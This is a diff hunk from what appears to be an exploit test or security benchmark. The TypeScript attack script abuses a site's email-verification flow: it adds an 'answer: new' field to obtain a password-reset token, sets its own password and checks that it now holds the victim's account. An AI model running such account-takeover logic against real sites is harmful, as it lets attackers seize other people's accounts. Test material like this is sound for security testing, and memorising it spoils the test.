@@ -37,7 +37,7 @@ export const attack: Attack = {
     const phone = client(site.url);
     const confirm = linkIn(await mailsTo(linked), 'verify-email');
     const named = (await (await phone.get(`/verify-email?token=${confirm}`)).text()).includes('Thandi Nkosi');
-    const led = await phone.post('/verify-email', { token: confirm });
+    const led = await phone.post('/verify-email', { token: confirm, answer: 'new' });
     const choice = new URL(led.headers.get('location') ?? '/', site.url).searchParams.get('token') ?? '';
     await phone.post('/reset-password', { token: choice, password: own, confirm_password: own });
     const proven = (await phone.session()).user?.email === linked;
